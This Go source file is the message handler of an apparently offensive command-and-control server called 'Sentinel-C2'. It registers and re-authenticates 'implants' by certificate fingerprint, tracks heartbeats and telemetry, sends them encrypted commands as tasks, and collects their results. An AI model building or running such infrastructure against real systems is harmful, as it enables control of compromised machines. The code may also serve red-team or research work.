package server

import (
	"context"
	"encoding/json"
	stdErrors "errors"
	"log/slog"
	"time"

	"github.com/google/uuid"
	"github.com/gorilla/websocket"

	xerrors "Sentinel-C2/internal/errors"
	"Sentinel-C2/internal/events"
	"Sentinel-C2/internal/implant"
	"Sentinel-C2/internal/protocol"
	"Sentinel-C2/internal/registry"
	"Sentinel-C2/internal/task"
	"Sentinel-C2/internal/telemetry"
	"Sentinel-C2/pkg/logger"
)

// DefaultHeartbeatInterval 是下发给植入体的心跳间隔。
const DefaultHeartbeatInterval = 30 * time.Second

// Handler 分发已通过协议校验的入站消息。
type Handler struct {
	registry     *registry.Registry
	implants     implant.Store
	capabilities *implant.CapabilityRegistry
	distributor  *task.Distributor
	telemetry    *telemetry.Service
	producer     events.Producer
	heartbeat    time.Duration
	log          *slog.Logger
	now          func() time.Time
}

// NewHandler 构造消息分发器。producer 可以为 nil。
func NewHandler(
	reg *registry.Registry,
	implants implant.Store,
	capabilities *implant.CapabilityRegistry,
	distributor *task.Distributor,
	telemetrySvc *telemetry.Service,
	producer events.Producer,
) *Handler {
	return &Handler{
		registry:     reg,
		implants:     implants,
		capabilities: capabilities,
		distributor:  distributor,
		telemetry:    telemetrySvc,
		producer:     producer,
		heartbeat:    DefaultHeartbeatInterval,
		log:          logger.Named("handler"),
		now:          time.Now,
	}
}

// Handle 按消息类型分发。未注册的会话只允许发送 register。
func (h *Handler) Handle(ctx context.Context, session *registry.Session, env *protocol.Envelope, payload []byte) error {
	if !session.Authenticated() && env.Type != protocol.TypeRegister {
		h.sendError(session, string(xerrors.CodeRegistration), "会话未注册")
		return xerrors.New(xerrors.CodeRegistration, "未注册的会话发送业务消息")
	}

	switch env.Type {
	case protocol.TypeRegister:
		return h.handleRegister(ctx, session, payload)
	case protocol.TypeHeartbeat:
		return h.handleHeartbeat(ctx, session, payload)
	case protocol.TypeTaskRequest:
		return h.handleTaskRequest(ctx, session, payload)
	case protocol.TypeTaskResult:
		return h.handleTaskResult(ctx, session, payload)
	case protocol.TypeTelemetry:
		return h.handleTelemetry(ctx, session, payload)
	case protocol.TypeError:
		var errPayload protocol.ErrorPayload
		_ = json.Unmarshal(payload, &errPayload)
		h.log.Warn("植入体上报错误",
			slog.String("implant_id", session.ImplantID()),
			slog.String("code", errPayload.Code),
			slog.String("message", errPayload.Message))
		return nil
	default:
		h.sendError(session, string(xerrors.CodeProtocolViolation), "不支持的消息类型")
		return xerrors.New(xerrors.CodeProtocolViolation, "不支持的消息类型")
	}
}

// handleRegister 实现注册状态机：
// 新身份创建记录；同名重连校验证书指纹后更新身份；
// 已终止的身份拒绝恢复。
func (h *Handler) handleRegister(ctx context.Context, session *registry.Session, payload []byte) error {
	var req protocol.RegisterPayload
	if err := json.Unmarshal(payload, &req); err != nil {
		h.sendError(session, string(xerrors.CodeRegistration), "注册载荷格式错误")
		return xerrors.Wrap(xerrors.CodeRegistration, err, "解析注册载荷失败")
	}
	if req.Name == "" {
		h.sendError(session, string(xerrors.CodeRegistration), "植入体名称不能为空")
		return xerrors.New(xerrors.CodeRegistration, "注册缺少名称")
	}
	// 注册载荷声明的指纹必须与传输层证书指纹一致，新注册与重连同样适用。
	if req.Fingerprint != session.Fingerprint {
		h.log.Warn("注册声明指纹与证书指纹不符",
			slog.String("name", req.Name),
			slog.String("declared", req.Fingerprint),
			slog.String("presented", session.Fingerprint))
		h.sendError(session, string(xerrors.CodeRegistration), "声明指纹与证书指纹不一致")
		return xerrors.New(xerrors.CodeRegistration, "注册声明指纹与证书指纹不一致",
			xerrors.WithAlert(true))
	}
	implantType := implant.Type(req.ImplantType)
	if !implant.IsValidType(implantType) {
		implantType = implant.TypeGeneral
	}

	normalized := h.capabilities.Normalize(req.Capabilities, implantType)

	existing, err := h.implants.GetByName(ctx, req.Name)
	switch {
	case err == nil:
		return h.reconnect(ctx, session, existing, &req, implantType, normalized)
	case stdErrors.Is(err, implant.ErrImplantNotFound):
		return h.register(ctx, session, &req, implantType, normalized)
	default:
		return err
	}
}

func (h *Handler) register(ctx context.Context, session *registry.Session, req *protocol.RegisterPayload, implantType implant.Type, capabilities []string) error {
	record := &implant.Implant{
		ID:                uuid.NewString(),
		Name:              req.Name,
		Type:              implantType,
		Version:           req.Version,
		Hostname:          req.Hostname,
		OS:                req.OS,
		Architecture:      req.Architecture,
		Addresses:         req.Addresses,
		CertificateSerial: req.CertificateSerial,
		Fingerprint:       session.Fingerprint,
		Capabilities:      capabilities,
		Status:            implant.StatusConnected,
		Metadata:          req.Metadata,
	}
	if err := h.implants.Create(ctx, record); err != nil {
		h.sendError(session, string(xerrors.CodeRegistration), "创建植入体记录失败")
		return err
	}
	if err := h.finishRegistration(session, record.ID); err != nil {
		return err
	}
	logger.Audit().Info("植入体注册成功",
		slog.String("implant_id", record.ID),
		slog.String("name", record.Name),
		slog.String("fingerprint", session.Fingerprint))
	h.publish(ctx, events.KindImplantRegistered, record.ID, "", req.Name)
	return nil
}

func (h *Handler) reconnect(ctx context.Context, session *registry.Session, existing *implant.Implant, req *protocol.RegisterPayload, implantType implant.Type, capabilities []string) error {
	// 终止是粘性的：重连不能恢复身份。
	if existing.Status.IsTerminal() {
		h.sendError(session, string(implant.CodeImplantTerminated), "身份已终止")
		return implant.ErrImplantTerminated
	}
	// 重连必须出示与首次注册相同的客户端证书。
	if existing.Fingerprint != session.Fingerprint {
		h.log.Warn("重连指纹不匹配",
			slog.String("implant_id", existing.ID),
			slog.String("expected", existing.Fingerprint),
			slog.String("presented", session.Fingerprint))
		h.sendError(session, string(xerrors.CodeRegistration), "证书指纹不匹配")
		return xerrors.New(xerrors.CodeRegistration, "重连证书指纹不匹配",
			xerrors.WithAlert(true))
	}

	existing.Type = implantType
	existing.Version = req.Version
	existing.Hostname = req.Hostname
	existing.OS = req.OS
	existing.Architecture = req.Architecture
	existing.Addresses = req.Addresses
	existing.CertificateSerial = req.CertificateSerial
	existing.Capabilities = capabilities
	existing.Metadata = req.Metadata
	existing.Status = implant.StatusConnected
	if err := h.implants.Update(ctx, existing); err != nil {
		h.sendError(session, string(xerrors.CodeRegistration), "更新植入体记录失败")
		return err
	}
	if err := h.finishRegistration(session, existing.ID); err != nil {
		return err
	}
	logger.Audit().Info("植入体重连成功",
		slog.String("implant_id", existing.ID),
		slog.String("name", existing.Name))
	h.publish(ctx, events.KindImplantReconnected, existing.ID, "", existing.Name)
	return nil
}

func (h *Handler) finishRegistration(session *registry.Session, implantID string) error {
	if _, err := h.registry.Bind(session.ConnectionID, implantID); err != nil {
		return err
	}
	return h.send(session, protocol.TypeRegisterAck, protocol.RegisterAckPayload{
		ImplantID:         implantID,
		HeartbeatInterval: int(h.heartbeat / time.Second),
	})
}

func (h *Handler) handleHeartbeat(ctx context.Context, session *registry.Session, payload []byte) error {
	var hb protocol.HeartbeatPayload
	if err := json.Unmarshal(payload, &hb); err != nil {
		return xerrors.Wrap(xerrors.CodeProtocolViolation, err, "解析心跳载荷失败")
	}
	session.TouchHeartbeat(h.now())

	implantID := session.ImplantID()
	record, err := h.implants.Get(ctx, implantID)
	if err != nil {
		return err
	}
	status := implant.Status(hb.Status)
	switch {
	case status.IsLive():
		record.Status = status
	case hb.ActiveTasks > 0:
		// 未上报有效状态时按在途任务数推断忙闲。
		record.Status = implant.StatusBusy
	default:
		record.Status = implant.StatusIdle
	}
	if hb.ConnectionQuality > 0 {
		record.ConnectionQuality = hb.ConnectionQuality
	}
	return h.implants.Update(ctx, record)
}

func (h *Handler) handleTaskRequest(ctx context.Context, session *registry.Session, payload []byte) error {
	var req protocol.TaskRequestPayload
	if err := json.Unmarshal(payload, &req); err != nil {
		return xerrors.Wrap(xerrors.CodeProtocolViolation, err, "解析任务请求失败")
	}
	batch := req.BatchSize
	if batch <= 0 {
		batch = 1
	}

	implantID := session.ImplantID()
	for i := 0; i < batch; i++ {
		assigned, err := h.distributor.Assign(ctx, implantID)
		if err != nil {
			if stdErrors.Is(err, task.ErrTaskNotFound) {
				break
			}
			return err
		}
		parameters := make(map[string]string, len(assigned.Metadata))
		for k, v := range assigned.Metadata {
			if s, ok := v.(string); ok {
				parameters[k] = s
			}
		}
		assignErr := h.sendEncrypted(session, protocol.TypeTaskAssign, protocol.TaskAssignPayload{
			TaskID:         assigned.ID,
			TaskType:       assigned.Command,
			Command:        assigned.Command,
			Parameters:     parameters,
			Priority:       assigned.Priority,
			TimeoutSeconds: assigned.TimeoutSeconds,
		})
		if assignErr != nil {
			return assignErr
		}
		h.publish(ctx, events.KindTaskAssigned, implantID, assigned.ID, assigned.Command)
	}
	return nil
}

func (h *Handler) handleTaskResult(ctx context.Context, session *registry.Session, payload []byte) error {
	var res protocol.TaskResultPayload
	if err := json.Unmarshal(payload, &res); err != nil {
		return xerrors.Wrap(xerrors.CodeProtocolViolation, err, "解析任务结果失败")
	}
	if res.TaskID == "" {
		return xerrors.New(xerrors.CodeProtocolViolation, "任务结果缺少任务 ID")
	}

	success := res.ExitCode == 0 && res.ErrorMessage == ""
	result := &task.Result{
		TaskID:     res.TaskID,
		ImplantID:  session.ImplantID(),
		ResultType: res.ResultType,
		Success:    success,
		ExitCode:   res.ExitCode,
		Output:     res.Data,
		Error:      res.ErrorMessage,
		DurationMS: res.ExecutionTimeMS,
	}
	if err := h.distributor.Complete(ctx, result); err != nil {
		return err
	}
	kind := events.KindTaskCompleted
	if !success {
		kind = events.KindTaskFailed
	}
	h.publish(ctx, kind, session.ImplantID(), res.TaskID, res.ErrorMessage)
	return nil
}

func (h *Handler) handleTelemetry(ctx context.Context, session *registry.Session, payload []byte) error {
	var tp protocol.TelemetryPayload
	if err := json.Unmarshal(payload, &tp); err != nil {
		return xerrors.Wrap(xerrors.CodeProtocolViolation, err, "解析遥测载荷失败")
	}
	sample := &telemetry.Sample{
		ImplantID:     session.ImplantID(),
		CPUPercent:    tp.CPUPercent,
		MemoryPercent: tp.MemoryPercent,
		HealthScore:   tp.HealthScore,
		ActiveTasks:   tp.ActiveTasks,
		UptimeSeconds: tp.UptimeSeconds,
		Extra:         tp.Extra,
	}
	return h.telemetry.Ingest(ctx, sample)
}

// Disconnected 在连接断开后把植入体标记为离线。
func (h *Handler) Disconnected(ctx context.Context, session *registry.Session) {
	implantID := session.ImplantID()
	if implantID == "" {
		return
	}
	if err := h.implants.MarkStatus(ctx, implantID, implant.StatusDisconnected); err != nil &&
		!stdErrors.Is(err, implant.ErrImplantTerminated) {
		h.log.Warn("标记植入体离线失败",
			slog.String("implant_id", implantID),
			slog.Any("error", err))
	}
	h.publish(ctx, events.KindImplantDisconnected, implantID, "", "")
}

// Terminate 是操作员下发的终止指令：
// 身份迁移为粘性的终止态，活动连接被通知后关闭。
func (h *Handler) Terminate(ctx context.Context, implantID, reason string) error {
	if err := h.implants.MarkStatus(ctx, implantID, implant.StatusTerminated); err != nil {
		return err
	}
	if session, ok := h.registry.GetByImplant(implantID); ok {
		_ = h.send(session, protocol.TypeTerminate, protocol.TerminatePayload{
			ImplantID: implantID,
			Reason:    reason,
		})
		h.registry.Remove(session.ConnectionID)
	}
	logger.Audit().Info("植入体已终止",
		slog.String("implant_id", implantID),
		slog.String("reason", reason))
	h.publish(ctx, events.KindImplantTerminated, implantID, "", reason)
	return nil
}

func (h *Handler) send(session *registry.Session, msgType protocol.Type, payload any) error {
	env, err := session.Guard().Wrap(msgType, payload)
	if err != nil {
		return err
	}
	return h.write(session, env)
}

func (h *Handler) sendEncrypted(session *registry.Session, msgType protocol.Type, payload any) error {
	env, err := session.Guard().WrapEncrypted(msgType, payload)
	if err != nil {
		return err
	}
	return h.write(session, env)
}

func (h *Handler) write(session *registry.Session, env *protocol.Envelope) error {
	data, err := json.Marshal(env)
	if err != nil {
		return xerrors.Wrap(xerrors.CodeInvalidArgument, err, "编码封套失败")
	}
	if err := session.Conn().WriteMessage(websocket.TextMessage, data); err != nil {
		return xerrors.Wrap(xerrors.CodeProtocolViolation, err, "发送消息失败")
	}
	return nil
}

func (h *Handler) sendError(session *registry.Session, code, message string) {
	_ = h.send(session, protocol.TypeError, protocol.ErrorPayload{Code: code, Message: message})
}

func (h *Handler) publish(ctx context.Context, kind events.Kind, implantID, taskID, detail string) {
	if h.producer == nil {
		return
	}
	err := h.producer.Publish(ctx, &events.Event{
		Kind:      kind,
		ImplantID: implantID,
		TaskID:    taskID,
		Detail:    detail,
	})
	if err != nil {
		h.log.Warn("发布事件失败", slog.String("kind", string(kind)), slog.Any("error", err))
	}
}
